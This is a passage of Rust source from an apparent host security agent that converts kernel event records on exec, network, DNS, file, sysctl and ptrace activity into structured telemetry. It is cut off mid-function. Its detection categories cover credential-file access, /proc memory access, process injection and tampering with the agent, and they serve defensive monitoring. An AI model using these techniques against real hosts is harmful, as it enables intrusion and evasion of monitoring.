            Event::Exec(e) => &e.process,
            Event::Fork(e) => &e.process,
            Event::Exit(e) => &e.process,
            Event::Connect(e) | Event::ConnectOutcome(e) | Event::Accept(e) => &e.process,
            Event::Dns(e) => &e.process,
            Event::Stream(e) => &e.process,
            Event::File(e) => &e.process,
            Event::Activity(e) => &e.process,
        }
    }
}

/// Bytes as text, invalid UTF-8 replaced.
pub fn lossy(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// Splits a NUL-separated argument vector.
pub fn split_argv(bytes: &[u8]) -> Vec<String> {
    let bytes = bytes.strip_suffix(&[0]).unwrap_or(bytes);
    if bytes.is_empty() {
        return Vec::new();
    }
    bytes.split(|&b| b == 0).map(lossy).collect()
}

/// Rebuilds a path from the kernel's leaf-first, NUL-terminated components.
pub fn cwd_from_components(bytes: &[u8]) -> PathBuf {
    let mut path = String::with_capacity(bytes.len() + 1);
    path.push('/');
    let parts = bytes
        .rsplit(|&b| b == 0)
        .filter(|p| !p.is_empty() && *p != b"/");
    for (i, part) in parts.enumerate() {
        if i > 0 {
            path.push('/');
        }
        path.push_str(&String::from_utf8_lossy(part));
    }
    PathBuf::from(path)
}

/// The executable as an absolute path.
pub fn resolve_exe(filename: &str, cwd: Option<&Path>) -> PathBuf {
    let path = Path::new(filename);
    match (path.is_absolute(), cwd) {
        (true, _) | (false, None) => path.to_path_buf(),
        (false, Some(cwd)) => cwd.join(path),
    }
}

/// A user-space `dev_t` (as `stat` gives it) in the kernel's encoding (`major << 20 | minor`).
pub fn kernel_dev(user_dev: u64) -> u32 {
    (libc::major(user_dev) << 20) | (libc::minor(user_dev) & 0xfffff)
}

/// The kernel's `dev_t` (`major << 20 | minor`) in the user-space encoding `stat` uses.
pub fn user_dev(kernel_dev: u32) -> u64 {
    let major = (kernel_dev >> 20) as u64;
    let minor = (kernel_dev & 0xfffff) as u64;
    libc::makedev(major as u32, minor as u32)
}

/// The arguments of an exec record: with [`exec_flags::ARGV_TAIL`], the pieces of its head
/// followed by the pieces of its tail (each may start or end inside an argument).
fn argv_of(ev: &node_agent_common::ExecEvent, argv_len: usize) -> Vec<String> {
    let bytes = &ev.argv[..argv_len];
    if ev.flags & exec_flags::ARGV_TAIL != 0 && argv_len == ev.argv.len() {
        let (head, tail) = bytes.split_at(node_agent_common::ARGV_HEAD_LEN);
        let mut argv = split_argv(head);
        argv.extend(split_argv(tail));
        argv
    } else {
        split_argv(bytes)
    }
}

/// Exec fields that need no state: the caller adds uuid, hash and lineage.
pub fn exec_info(ev: &node_agent_common::ExecEvent, clock: &Clock) -> ExecInfo {
    let filename_len = (ev.filename_len as usize).min(ev.filename.len());
    let filename = lossy(&ev.filename[..filename_len]);
    let argv_len = (ev.argv_len as usize).min(ev.argv.len());
    let cwd_len = (ev.cwd_len as usize).min(ev.cwd.len());
    let cwd = if ev.flags & exec_flags::CWD_UNREADABLE != 0 {
        None
    } else {
        Some(cwd_from_components(&ev.cwd[..cwd_len]))
    };
    let exe = resolve_exe(&filename, cwd.as_deref());
    ExecInfo {
        time: clock.rfc3339(ev.header.ktime_ns),
        process: ProcessRef::from(&ev.task),
        filename,
        exe,
        argv: argv_of(ev, argv_len),
        argv_truncated: ev.flags & exec_flags::ARGV_TRUNCATED != 0,
        argv_tail: ev.flags & exec_flags::ARGV_TAIL != 0 && argv_len == ev.argv.len(),
        cwd,
        cwd_truncated: ev.flags & exec_flags::CWD_TRUNCATED != 0,
        exe_inode: ev.exe_ino,
        exe_dev: user_dev(ev.exe_dev),
        sha256: None,
        sha256_error: None,
        lineage: Vec::new().into(),
        fileless: ev.flags & exec_flags::EXE_MEMFD != 0,
        exe_deleted: ev.flags & exec_flags::EXE_DELETED != 0,
        host_root: false,
        written_by: (ev.flags & exec_flags::EXE_WRITTEN != 0).then(|| writer(&ev.writer, clock)),
        changed_untracked: None,
        stdin_script: None,
        script_written_by: None,
        stdio_sockets: ev
            .stdio
            .iter()
            .enumerate()
            .filter(|(_, peer)| peer.family != 0)
            .map(|(fd, peer)| stdio_socket(fd as u8, peer))
            .collect(),
        stdin: stream_kind(ev.stdio_types as u8),
        stdin_pipe: (ev.stdio_pipes[0] != 0).then_some(ev.stdio_pipes[0]),
        stdout_pipe: (ev.stdio_pipes[1] != 0).then_some(ev.stdio_pipes[1]),
        fd_pipes: ev
            .fd_pipes
            .iter()
            .filter(|p| p.ino != 0)
            .map(|p| FdPipe {
                fd: p.fd,
                pipe: p.ino,
            })
            .collect(),
        input_fifo: None,
        ld_preload: (ev.flags & exec_flags::ENV_LD_AUDIT == 0)
            .then(|| env_value(&ev.ld_preload, ev.ld_preload_len))
            .flatten(),
        ld_audit: (ev.flags & exec_flags::ENV_LD_AUDIT != 0)
            .then(|| env_value(&ev.ld_preload, ev.ld_preload_len))
            .flatten(),
        ld_audit_unread: ev.flags & exec_flags::ENV_LD_AUDIT_UNREAD != 0,
        ld_library_path: env_value(&ev.ld_library_path, ev.ld_library_path_len),
        env_truncated: ev.flags & exec_flags::ENV_TRUNCATED != 0,
        glibc_tunables: ev.flags & exec_flags::ENV_GLIBC_TUNABLES != 0,
        setuid: ev.flags & exec_flags::EUID_CHANGED != 0,
        script_evals: Vec::new(),
        script_lines: Vec::new(),
        argv0_empty: ev.flags & exec_flags::ARGV_UNREADABLE == 0 && argv_len > 0 && ev.argv[0] == 0,
        exe_set_id: false,
    }
}

/// A standard stream's kind from its file type (`S_IFMT >> 12`), `None` when closed.
fn stream_kind(file_type: u8) -> Option<&'static str> {
    match file_type {
        0 => None,
        0x1 => Some("pipe"),
        0x2 => Some("device"),
        0x8 => Some("file"),
        0xc => Some("socket"),
        _ => Some("other"),
    }
}

fn env_value(bytes: &[u8], len: u32) -> Option<String> {
    (len > 0).then(|| lossy(&bytes[..(len as usize).min(bytes.len())]))
}

/// A writer record as an event field.
pub fn writer(w: &node_agent_common::WriterInfo, clock: &Clock) -> Writer {
    Writer {
        pid: w.tgid,
        uid: w.uid,
        comm: lossy(c_str(&w.comm)),
        time: clock.rfc3339(w.time_ns),
    }
}

/// A socket peer as an event field.
pub fn stdio_socket(fd: u8, peer: &node_agent_common::SocketPeer) -> StdioSocket {
    StdioSocket {
        fd,
        family: family_name(peer.family),
        remote: ip_of(peer.family, &peer.addr).map(|ip| SocketAddr::new(ip, peer.port)),
    }
}

/// Exit status and signal from the kernel's `exit_code`.
pub fn exit_info(ev: &node_agent_common::ExitEvent, clock: &Clock) -> ExitInfo {
    let signal = ev.exit_code & 0x7f;
    ExitInfo {
        time: clock.rfc3339(ev.header.ktime_ns),
        process: ProcessRef::from(&ev.task),
        exit_status: (signal == 0).then_some((ev.exit_code >> 8) & 0xff),
        signal: (signal != 0).then_some(signal),
    }
}

fn family_name(f: u16) -> &'static str {
    match f {
        family::INET => "inet",
        family::INET6 => "inet6",
        family::UNIX => "unix",
        _ => "unknown",
    }
}

fn protocol_name(p: u16, family: u16, sock_type: u16) -> &'static str {
    match (p, family, sock_type) {
        (6, _, _) => "tcp",
        (17, _, _) => "udp",
        // accept(2) only hands out connected stream sockets.
        (0, family::INET | family::INET6, 1) => "tcp",
        _ => "unknown",
    }
}

fn ip_of(family: u16, addr: &[u8; 16]) -> Option<IpAddr> {
    match family {
        family::INET => Some(IpAddr::V4(Ipv4Addr::new(
            addr[0], addr[1], addr[2], addr[3],
        ))),
        family::INET6 => Some(IpAddr::V6(Ipv6Addr::from(*addr))),
        _ => None,
    }
}

/// A stream record as an event body.
pub fn stream_info(ev: &StreamEvent, clock: &Clock) -> StreamInfo {
    let len = (ev.head_len as usize).min(ev.head.len());
    let ip = match ip_of(ev.family, &ev.addr) {
        Some(IpAddr::V6(v6)) => v6.to_ipv4_mapped().map_or(IpAddr::V6(v6), IpAddr::V4),
        Some(ip) => ip,
        None => IpAddr::V4(Ipv4Addr::UNSPECIFIED),
    };
    StreamInfo {
        time: clock.rfc3339(ev.header.ktime_ns),
        process: ProcessRef::from(&ev.task),
        sender: if ev.flags & stream_flags::OWNER_UNKNOWN != 0 {
            "unknown"
        } else {
            "socketLock"
        },
        socket_cookie: ev.cookie,
        local_port: ev.local_port,
        remote: SocketAddr::new(ip, ev.remote_port),
        segment: ev.segment,
        payload_len: ev.payload_len,
        head: ev.head[..len].to_vec(),
        truncated: ev.flags & stream_flags::TRUNCATED != 0 || len < ev.payload_len as usize,
    }
}

/// A connect or accept record as an event body.
pub fn net_info(ev: &NetEvent, clock: &Clock) -> NetInfo {
    let unix_path = (ev.family == family::UNIX && ev.unix_path_len > 0).then(|| {
        let len = (ev.unix_path_len as usize).min(ev.unix_path.len());
        let raw = &ev.unix_path[..len];
        match raw.split_first() {
            // An abstract socket: a leading NUL, shown as `@` like ss(8) does.
            Some((0, rest)) => format!("@{}", lossy(c_str(rest))),
            _ => lossy(c_str(raw)),
        }
    });
    NetInfo {
        time: clock.rfc3339(ev.header.ktime_ns),
        process: ProcessRef::from(&ev.task),
        ret: ev.ret,
        error: error_of(i64::from(ev.ret)),
        fd: ev.fd,
        family: family_name(ev.family),
        protocol: protocol_name(ev.protocol, ev.family, ev.sock_type),
        remote: ip_of(ev.family, &ev.addr).map(|ip| SocketAddr::new(ip, ev.port)),
        unix_path,
        repeats: ev.repeats,
        outcome: match (ev.header.kind, ev.outcome) {
            (kind::CONNECT_OUTCOME, 0) => Some("closed".to_owned()),
            (_, outcome) => error_of(i64::from(outcome)),
        },
    }
}

/// The error a syscall's negative return value stands for (see [`errno_name`]); `None` when it
/// succeeded. Any value is taken: a record from a damaged or tampered map may hold one no syscall
/// returns, such as `i64::MIN`, whose negation overflows.
pub fn error_of(ret: i64) -> Option<String> {
    (ret < 0).then(|| match i32::try_from(ret.unsigned_abs()) {
        Ok(errno) => errno_name(errno),
        Err(_) => format!("errno {}", ret.unsigned_abs()),
    })
}

/// The symbolic name of an errno, for the common network ones; `errno N` otherwise.
pub fn errno_name(errno: i32) -> String {
    let name = match errno {
        libc::EPERM => "EPERM",
        libc::ENOENT => "ENOENT",
        libc::ESRCH => "ESRCH",
        libc::EINTR => "EINTR",
        libc::EBADF => "EBADF",
        libc::EAGAIN => "EAGAIN",
        libc::EACCES => "EACCES",
        libc::EFAULT => "EFAULT",
        libc::EEXIST => "EEXIST",
        libc::ETXTBSY => "ETXTBSY",
        libc::EINVAL => "EINVAL",
        libc::EMFILE => "EMFILE",
        libc::ENOTSOCK => "ENOTSOCK",
        libc::EPROTOTYPE => "EPROTOTYPE",
        libc::EAFNOSUPPORT => "EAFNOSUPPORT",
        libc::EADDRINUSE => "EADDRINUSE",
        libc::EADDRNOTAVAIL => "EADDRNOTAVAIL",
        libc::ENETUNREACH => "ENETUNREACH",
        libc::ECONNABORTED => "ECONNABORTED",
        libc::ECONNRESET => "ECONNRESET",
        libc::EISCONN => "EISCONN",
        libc::ETIMEDOUT => "ETIMEDOUT",
        libc::ECONNREFUSED => "ECONNREFUSED",
        libc::EHOSTUNREACH => "EHOSTUNREACH",
        libc::EALREADY => "EALREADY",
        libc::EINPROGRESS => "EINPROGRESS",
        other => return format!("errno {other}"),
    };
    name.to_owned()
}

/// A DNS record as an event body.
pub fn dns_info(ev: &DnsEvent, clock: &Clock) -> DnsInfo {
    let len = (ev.payload_len as usize).min(ev.payload.len());
    let mut payload = &ev.payload[..len];
    let tcp = ev.protocol == 6;
    if tcp {
        payload = dns::strip_tcp_length_prefix(payload).unwrap_or(payload);
    }
    let resolver = SocketAddr::new(
        ip_of(ev.family, &ev.addr).unwrap_or(IpAddr::V4(Ipv4Addr::UNSPECIFIED)),
        ev.port,
    );
    let mut info = DnsInfo {
        time: clock.rfc3339(ev.header.ktime_ns),
        process: ProcessRef::from(&ev.task),
        direction: if ev.direction == direction::INGRESS {
            "answer"
        } else {
            "query"
        },
        protocol: if tcp { "tcp" } else { "udp" },
        resolver,
        id: None,
        rcode: None,
        questions: Vec::new(),
        answers: Vec::new(),
        truncated: ev.flags & dns_flags::TRUNCATED != 0,
        untracked: match (
            ev.flags & dns_flags::UNTRACKED != 0,
            ev.flags & dns_flags::OWNER_UNKNOWN != 0,
        ) {
            (false, _) => None,
            (true, false) => Some("sender"),
            (true, true) => Some("unknown"),
        },
        parse_error: None,
    };
    match dns::parse(payload) {
        Ok(message) => {
            info.id = Some(message.header.id);
            if message.header.response {
                info.rcode = Some(message.header.rcode.to_string());
            }
            info.truncated |= message.incomplete;
            info.questions = message
                .questions
                .into_iter()
                .map(|q| DnsQuestion {
                    name: q.name,
                    qtype: dns::qtype_name(q.qtype).into_owned(),
                })
                .collect();
            info.answers = message
                .answers
                .into_iter()
                .map(|rr| DnsAnswer {
                    data: match &rr.data {
                        dns::RecordData::A(ip) => ip.to_string(),
                        dns::RecordData::Aaaa(ip) => ip.to_string(),
                        dns::RecordData::Cname(name) => name.clone(),
                        dns::RecordData::Other { .. } => String::new(),
                    },
                    name: rr.name,
                    rtype: dns::qtype_name(rr.rtype).into_owned(),
                    ttl: rr.ttl,
                })
                .collect();
        }
        Err(error) => info.parse_error = Some(error.to_string()),
    }
    info
}

/// The file operation's name.
fn file_op_name(op: u16) -> &'static str {
    use node_agent_common::file_op::*;
    match op {
        OPEN_WRITE => "openWrite",
        RENAME => "rename",
        LINK => "link",
        SYMLINK => "symlink",
        UNLINK => "unlink",
        CHMOD => "chmod",
        CHOWN => "chown",
        OPEN_READ => "openRead",
        OPEN_SCRIPT => "openScript",
        REDIRECT => "redirect",
        SET_ACL => "setAcl",
        _ => "unknown",
    }
}

/// A file record as an event body; paths stay as given (the pipeline resolves them).
pub fn file_info(ev: &node_agent_common::FileEvent, clock: &Clock) -> FileInfo {
    use node_agent_common::{file_flags, file_op};
    let path = lossy(&ev.path[..(ev.path_len as usize).min(ev.path.len())]);
    let path2 =
        (ev.path2_len > 0).then(|| lossy(&ev.path2[..(ev.path2_len as usize).min(ev.path2.len())]));
    let mut matched_by = Vec::new();
    if ev.match_flags & file_flags::MATCH_PREFIX != 0 {
        matched_by.push("prefix");
    }
    if ev.match_flags & file_flags::MATCH_NAME != 0 {
        matched_by.push("name");
    }
    if ev.match_flags & file_flags::MATCH_JOURNAL != 0 {
        matched_by.push("journal");
    }
    if ev.match_flags & file_flags::UNRESOLVED != 0 {
        matched_by.push("unresolved");
    }
    if ev.match_flags & file_flags::WRITTEN_BY_OTHER != 0 {
        matched_by.push("writtenByOther");
    }
    if ev.match_flags & file_flags::MEMORY_FS != 0 {
        matched_by.push("memoryFs");
    }
    if ev.match_flags & file_flags::CREDENTIALS != 0 {
        matched_by.push("credentials");
    }
    if ev.match_flags & file_flags::PIPE != 0 {
        matched_by.push("pipe");
    }
    if ev.match_flags & file_flags::SET_ID != 0 {
        matched_by.push("setId");
    }
    let unchanged = |v: u32| (v != u32::MAX).then_some(v);
    // Otherwise absolute paths stand alone and a relative one starts from the directory the
    // kernel recorded.
    // An open's file as the kernel walked it, root first (up to its NUL).
    let object = (ev.match_flags & file_flags::OBJECT_PATH != 0).then(|| {
        let bytes = &ev.base[..(ev.base_len as usize).min(ev.base.len())];
        let end = bytes.iter().position(|&b| b == 0).unwrap_or(bytes.len());
        PathBuf::from(lossy(&bytes[..end]))
    });
    let base = (ev.match_flags & file_flags::HAS_BASE != 0)
        .then(|| cwd_from_components(&ev.base[..(ev.base_len as usize).min(ev.base.len())]));
    let own_root = |p: PathBuf| without_own_proc_root(p, ev.task.tgid, ev.task.pid);
    let resolve = |p: &str, same_base: bool| {
        let p = Path::new(p);
        if p.is_absolute() {
            Some(own_root(normalize(p)))
        } else if same_base {
            base.as_ref().map(|b| own_root(normalize(&b.join(p))))
        } else {
            None
        }
    };
    let resolved_path = object.or_else(|| resolve(&path, true));
    // The base is `path2`'s when `path` is not relative (see `FileEvent::base`).
    let path_relative = !path.is_empty() && !path.starts_with('/');
    let path2_base = !path_relative || ev.dirfd2 == ev.dirfd;
    let resolved_path2 = path2.as_deref().and_then(|p| resolve(p, path2_base));
    let proc_mem_pid = if ev.match_flags & file_flags::PROC_MEM != 0 {
        matched_by.push("procMem");
        // The process the kernel found from the file the open returned; for a failed open, the
        // path resolved from the directory the kernel recorded (`cd /proc/123; open("mem")` is
        // pid 123's), then the path as passed.
        (ev.target_tgid != 0).then_some(ev.target_tgid).or_else(|| {
            resolved_path
                .as_deref()
                .and_then(|p| p.to_str())
                .or(Some(path.as_str()))
                .and_then(|p| proc_mem_pid(p, ev.task.tgid))
        })
    } else {
        None
    };
    FileInfo {
        time: clock.rfc3339(ev.header.ktime_ns),
        process: ProcessRef::from(&ev.task),
        operation: file_op_name(ev.op),
        path,
        resolved_path,
        path2,
        resolved_path2,
        ret: ev.ret,
        error: error_of(ev.ret),
        open_flags: (ev.op == file_op::OPEN_WRITE).then(|| format!("{:o}", ev.open_flags)),
        mode: (ev.op == file_op::CHMOD || ev.open_flags & libc::O_CREAT as u32 != 0)
            .then(|| format!("{:o}", ev.mode)),
        owner: (ev.op == file_op::CHOWN).then(|| (unchanged(ev.uid), unchanged(ev.gid))),
        inode: (ev.ino != 0).then_some(ev.ino),
        matched_by,
        proc_mem_pid,
        sysctl_value: None,
        sysctl_setting: None,
        sysctl_by_hook: false,
        git_config: None,
        sysctl_file: None,
        accounts_changed: None,
        hashes_owner: None,
        program_written: None,
        written_by: None,
        truncated: ev.match_flags & (file_flags::PATH_TRUNCATED | file_flags::PATH2_TRUNCATED) != 0,
    }
}

/// A kernel setting written through `/proc/sys` (the `sysctl` hook's record,
/// `activity::SYSCTL_WRITE`), as a file event like an open for writing of the setting (one home
/// for each concept: the checks of kernel settings read one form): operation `sysctlWrite`, the
/// setting's path under `/proc/sys` whichever procfs mount the writer used, and the value as
/// written (up to its first newline, trimmed; the kernel's handlers stop there too). A write
/// at a position past the start (a string setting written in pieces) carries no value here:
/// the pipeline reads the setting back ([`SysctlWrite::position`]).
pub fn sysctl_info(
    ev: &node_agent_common::ActivityEvent,
    clock: &Clock,
) -> (FileInfo, SysctlWrite) {
    let text = |bytes: &[u8], len: u32| {
        let bytes = &bytes[..(len as usize).min(bytes.len())];
        let end = bytes.iter().position(|&b| b == 0).unwrap_or(bytes.len());
        lossy(&bytes[..end])
    };
    let name = text(&ev.str1, ev.str1_len);
    let written = text(&ev.str2, ev.str2_len);
    let position = ev.args[0];
    let value = written.split('\n').next().unwrap_or("").trim().to_owned();
    let setting = PathBuf::from("/proc/sys").join(name.trim_start_matches('/'));
    let info = FileInfo {
        time: clock.rfc3339(ev.header.ktime_ns),
        process: ProcessRef::from(&ev.task),
        operation: "sysctlWrite",
        path: setting.display().to_string(),
        resolved_path: Some(setting),
        path2: None,
        resolved_path2: None,
        ret: 0,
        error: None,
        open_flags: None,
        mode: None,
        owner: None,
        inode: None,
        matched_by: vec!["sysctl"],
        proc_mem_pid: None,
        sysctl_value: (position == 0).then_some(value),
        sysctl_setting: None,
        sysctl_by_hook: false,
        git_config: None,
        sysctl_file: None,
        accounts_changed: None,
        hashes_owner: None,
        program_written: None,
        written_by: None,
        truncated: ev.flags != 0,
    };
    (info, SysctlWrite { name, position })
}

/// What [`sysctl_info`] leaves to the pipeline.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SysctlWrite {
    /// The setting's name as the kernel gave it (`kernel/randomize_va_space`).
    pub name: String,
    /// The file position written at; past 0, the bytes continue a value written before.
    pub position: u64,
}

/// A change fanotify reported in a sensitive directory, as a file event like the `file_change`
/// sensor's (one home for each concept: the detections read one form). The paths are the real
/// ones, from the directory that changed; what fanotify cannot know is left empty: the old name
/// of a file moved in from, or hard-linked from, a directory that is not watched (`path` is
/// then empty). `matchedBy` is `dirent`.
pub fn dirent_info(
    change: &crate::sensor::dirents::DirentChange,
    process: ProcessRef,
    clock: &Clock,
) -> FileInfo {
    use crate::sensor::dirents::DirentOp;
    let text = |p: &Option<PathBuf>| p.as_ref().map(|p| p.display().to_string());
    let (operation, path, resolved_path, path2, resolved_path2) = match change.op {
        DirentOp::Renamed => (
            "rename",
            text(&change.old_path),
            change.old_path.clone(),
            text(&change.path),
            change.path.clone(),
        ),
        DirentOp::Linked => ("link", None, None, text(&change.path), change.path.clone()),
        DirentOp::Symlinked => (
            "symlink",
            text(&change.path),
            change.path.clone(),
            change.target.clone(),
            None,
        ),
        DirentOp::Removed => (
            "unlink",
            text(&change.path),
            change.path.clone(),
            None,
            None,
        ),
        DirentOp::Chmod => ("chmod", text(&change.path), change.path.clone(), None, None),
        DirentOp::Chown => ("chown", text(&change.path), change.path.clone(), None, None),
    };
    FileInfo {
        time: clock.rfc3339(change.boot_ns),
        process,
        operation,
        path: path.unwrap_or_default(),
        resolved_path,
        path2,
        resolved_path2,
        ret: 0,
        error: None,
        open_flags: None,
        mode: change.mode.map(|m| format!("{m:o}")),
        owner: change.owner.map(|(uid, gid)| (Some(uid), Some(gid))),
        inode: change.inode,
        matched_by: vec!["dirent"],
        proc_mem_pid: None,
        sysctl_value: None,
        sysctl_setting: None,
        sysctl_by_hook: false,
        git_config: None,
        sysctl_file: None,
        accounts_changed: None,
        hashes_owner: None,
        program_written: None,
        written_by: None,
        truncated: false,
    }
}

/// A path through the process's own `/proc/<pid>/root` (`self`, `thread-self`, its pid or
/// thread id) names what the process sees at that path: `/proc/self/root/etc/crontab` is
/// `/etc/crontab`. Another process's root may be another mount namespace's, and is kept.
pub fn without_own_proc_root(path: PathBuf, tgid: u32, tid: u32) -> PathBuf {
    use std::path::Component;
    let mut parts = path.components();
    let (Some(Component::RootDir), Some(proc), Some(who), Some(root)) =
        (parts.next(), parts.next(), parts.next(), parts.next())
    else {
        return path;
    };
    let who = who.as_os_str().to_str().unwrap_or("");
    let own =
        matches!(who, "self" | "thread-self") || who == tgid.to_string() || who == tid.to_string();
    if proc.as_os_str() != "proc" || root.as_os_str() != "root" || !own {
        return path;
    }
    // Nested (`/proc/self/root/proc/self/root/...`) is the same again.
    without_own_proc_root(Path::new("/").join(parts.as_path()), tgid, tid)
}

/// Whose memory a path names: `N` of `/proc/N/mem` and of `/proc/N/task/T/mem` (the task
/// directory lists N's own threads), `own` for `self` and `thread-self`; `None` for any other
/// path.
pub fn proc_mem_pid(path: &str, own: u32) -> Option<u32> {
    let rest = path.strip_prefix("/proc/")?.strip_suffix("/mem")?;
    let who = match rest.split_once("/task/") {
        Some((who, tid)) if tid.parse::<u32>().is_ok() => who,
        Some(_) => return None,
        None => rest,
    };
    match who {
        "self" | "thread-self" => Some(own),
        _ => who.parse().ok(),
    }
}

/// The ptrace request's name.
fn ptrace_request(request: u64) -> String {
    match request {
        0 => "PTRACE_TRACEME".into(),
        3 => "PTRACE_PEEKUSER".into(),
        4 => "PTRACE_POKETEXT".into(),
        5 => "PTRACE_POKEDATA".into(),
        6 => "PTRACE_POKEUSER".into(),
        13 => "PTRACE_SETREGS".into(),
        16 => "PTRACE_ATTACH".into(),
        0x4204 => "PTRACE_SETREGSET".into(),
        0x4206 => "PTRACE_SEIZE".into(),
        other => format!("request {other}"),
    }
}

/// The `bpf(2)` commands the self-protection program reports, by name.
fn bpf_command(cmd: u64) -> String {
    match cmd {
        2 => "BPF_MAP_UPDATE_ELEM".into(),
        3 => "BPF_MAP_DELETE_ELEM".into(),
        9 => "BPF_PROG_DETACH".into(),
        21 => "BPF_MAP_LOOKUP_AND_DELETE_ELEM".into(),
        22 => "BPF_MAP_FREEZE".into(),
        25 => "BPF_MAP_LOOKUP_AND_DELETE_BATCH".into(),
        26 => "BPF_MAP_UPDATE_BATCH".into(),
        27 => "BPF_MAP_DELETE_BATCH".into(),
        29 => "BPF_LINK_UPDATE".into(),
        34 => "BPF_LINK_DETACH".into(),
        other => format!("command {other}"),
    }
}

/// A signal's name (`SIGTERM`), or its number.
pub fn signal_name(sig: u64) -> String {
    const NAMES: [&str; 32] = [
        "",
        "SIGHUP",
        "SIGINT",
        "SIGQUIT",
        "SIGILL",
        "SIGTRAP",
        "SIGABRT",
        "SIGBUS",
        "SIGFPE",
        "SIGKILL",
        "SIGUSR1",
        "SIGSEGV",
        "SIGUSR2",
        "SIGPIPE",
        "SIGALRM",
        "SIGTERM",
        "SIGSTKFLT",
        "SIGCHLD",
        "SIGCONT",
        "SIGSTOP",
        "SIGTSTP",
        "SIGTTIN",
        "SIGTTOU",
        "SIGURG",
        "SIGXCPU",
        "SIGXFSZ",
        "SIGVTALRM",
        "SIGPROF",
        "SIGWINCH",
        "SIGIO",
        "SIGPWR",
        "SIGSYS",
    ];
    match NAMES.get(sig as usize) {
        Some(name) if !name.is_empty() => (*name).to_owned(),
        _ => format!("signal {sig}"),
    }
}

/// The namespaces named by `CLONE_NEW*` flags.
pub fn namespaces(flags: u64) -> Vec<&'static str> {
    let table: [(u64, &str); 8] = [
        (libc::CLONE_NEWNS as u64, "mnt"),
        (libc::CLONE_NEWUTS as u64, "uts"),
        (libc::CLONE_NEWIPC as u64, "ipc"),
        (libc::CLONE_NEWUSER as u64, "user"),
        (libc::CLONE_NEWPID as u64, "pid"),
        (libc::CLONE_NEWNET as u64, "net"),
        (libc::CLONE_NEWCGROUP as u64, "cgroup"),
        (0x80, "time"),
    ];
    table
        .iter()
        .filter(|(bit, _)| flags & bit != 0)
        .map(|(_, name)| *name)
        .collect()
}

/// An activity record as an event body.
pub fn activity_info(ev: &node_agent_common::ActivityEvent, clock: &Clock) -> ActivityInfo {
    use node_agent_common::activity::*;
    let s1 = || lossy(&ev.str1[..(ev.str1_len as usize).min(ev.str1.len())]);
    let a = &ev.args;
    let mut info = ActivityInfo {
        time: clock.rfc3339(ev.header.ktime_ns),
        process: ProcessRef::from(&ev.task),
        ret: ev.ret,
        error: error_of(ev.ret),
        inode: (ev.ino != 0).then_some(ev.ino),
        ..ActivityInfo::default()
    };
    info.operation = match ev.op {
        MEMFD_CREATE => {
            info.name = Some(s1());
            info.flags = Some(a[1]);
            "memfdCreate"
        }
        PTRACE => {
            info.request = Some(ptrace_request(a[0]));
            info.target_pid = (a[0] != 0).then_some(a[1] as u32);
            "ptrace"
        }
        PROCESS_VM_WRITEV => {
            info.target_pid = Some(a[0] as u32);
            "processVmWritev"
        }
        PROCESS_VM_READV => {
            info.target_pid = Some(a[0] as u32);
            "processVmReadv"
        }
        USERFAULTFD => {
            info.flags = Some(a[0]);
            "userfaultfd"
        }
        INIT_MODULE => "initModule",
        FINIT_MODULE => {
            info.name = Some(s1());
            info.flags = Some(a[2]);
            "finitModule"
        }
        MOUNT => {
            info.source = Some(s1());
            info.target = Some(lossy(&ev.str2[..(ev.str2_len as usize).min(ev.str2.len())]));
            info.fs_type = Some(lossy(&ev.str3[..(ev.str3_len as usize).min(ev.str3.len())]));
            info.flags = Some(a[3]);
            "mount"
        }
        UNSHARE => {
            info.flags = Some(a[0]);
            info.namespaces = namespaces(a[0]);
            "unshare"
        }
        SETNS => {
            info.flags = Some(a[1]);
            info.namespaces = namespaces(a[1]);
            info.name = (ev.str1_len > 0).then(s1);
            "setns"
        }
        SETUID | SETGID | SETREUID | SETREGID | SETRESUID | SETRESGID | CAPSET => {
            info.before = Some([ev.before_uid, ev.before_euid, ev.before_gid, ev.before_egid]);
            let n = match ev.op {
                SETUID | SETGID => 1,
                SETREUID | SETREGID => 2,
                SETRESUID | SETRESGID => 3,
                _ => 0,
            };
            info.requested = a[..n].iter().map(|&v| v as u32).collect();
            match ev.op {
                SETUID => "setuid",
                SETGID => "setgid",
                SETREUID => "setreuid",
                SETREGID => "setregid",
                SETRESUID => "setresuid",
                SETRESGID => "setresgid",
                _ => "capset",
            }
        }
        DUP_SOCKET => {
            info.fds = Some((a[0], a[1]));
            info.socket = Some(stdio_socket(a[1] as u8, &ev.sock));
            "dupSocket"
        }
        LIBRARY_LOAD => {
            info.written_by = Some(writer(&ev.writer, clock));
            info.name = (ev.str1_len > 0).then(s1);
            "libraryLoad"
        }
        BPF_AGENT => {
            let kind = match a[1] {
                node_agent_common::agent_object::MAP => "map",
                node_agent_common::agent_object::PROG => "prog",
                node_agent_common::agent_object::LINK => "link",
                _ => "object",
            };
            info.aimed_at_agent = Some(Box::new(AimedAtAgent {
                bpf_command: Some(bpf_command(a[0])),
                bpf_object: Some(format!("{kind} {}", a[2])),
                ..AimedAtAgent::default()
            }));
            "bpfAgent"
        }
        // The same record for the agent, the host's other security agents and miners.
        op @ (SIGNAL_AGENT | SIGNAL_GUARDED | SIGNAL_MINER) => {
            info.aimed_at_agent = Some(Box::new(AimedAtAgent {
                signal: Some(signal_name(a[0])),
                signal_code: Some(a[1] as i32),
                ..AimedAtAgent::default()
            }));
            info.target_pid = Some(a[3] as u32);
            match op {
                SIGNAL_AGENT => "signalAgent",
                SIGNAL_GUARDED => "signalGuarded",
                _ => "signalMiner",
            }
        }
        OPEN_BY_HANDLE_AT => {
            info.flags = Some(a[2]);
            info.handle = Some(file_handle(a[3] as u32, a[4], a[5] as u32));
            info.name = (ev.str1_len > 0).then(s1);
            "openByHandleAt"
        }
        op @ (MKNOD | MKNODAT) => {
            let (mode, dev) = if op == MKNOD {
                (a[1], a[2])
            } else {
                (a[2], a[3])
            };
            info.target = Some(s1());
            info.flags = Some(mode);
            info.device = Some(device_number(dev));
            "mknod"
        }
        PRCTL_SET_NAME => {
            let mut before = [0u8; 16];
            before[..8].copy_from_slice(&a[2].to_le_bytes());
            before[8..].copy_from_slice(&a[3].to_le_bytes());
            info.source = Some(lossy(c_str(&before)));
            info.name = Some(info.process.comm.clone());
            info.request = Some("prctl(PR_SET_NAME)".into());
            "rename"
        }
        TASK_RENAME => {
            let name = |lo: u64, hi: u64| {
                let mut b = [0u8; 16];
                b[..8].copy_from_slice(&lo.to_le_bytes());
                b[8..].copy_from_slice(&hi.to_le_bytes());
                lossy(c_str(&b))
            };
            info.source = Some(name(a[2], a[3]));
